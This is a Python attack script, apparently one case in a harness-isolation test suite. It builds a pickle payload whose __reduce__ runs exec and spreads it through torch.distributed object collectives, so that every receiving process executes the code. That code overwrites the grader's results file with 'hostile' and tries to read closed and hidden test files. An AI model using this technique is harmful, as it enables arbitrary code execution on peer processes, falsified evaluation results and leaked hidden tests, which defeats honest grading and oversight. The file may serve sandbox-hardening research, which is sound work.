import os

import torch.distributed as dist
from attack import *

DO = f"""
import os
if os.getpid() in ({targets.grader_pid}, {targets.zygote_pid}):
    open({targets.results!r}, "w").write("hostile")
for path in {(targets.closed, targets.hidden_test)!r}:
    try:
        open(path).read() and print("REACHED: {{path}} by an object", flush=True)
    except OSError:
        pass
"""


class Payload:
    def __reduce__(self):
        return exec, (DO,)


@at_call
def send():
    size = dist.get_world_size()
    dist.all_gather_object([None] * size, Payload())
    dist.broadcast_object_list([Payload()], src=0)
    dist.scatter_object_list([None], [Payload()] * size if rank() == 0 else None, src=0)
    dist.gather_object(Payload(), [None] * size if rank() == 0 else None, dst=0)
    if rank() == 0:
        dist.send_object_list([Payload()], dst=1)
    elif rank() == 1:
        dist.recv_object_list([None], src=0)
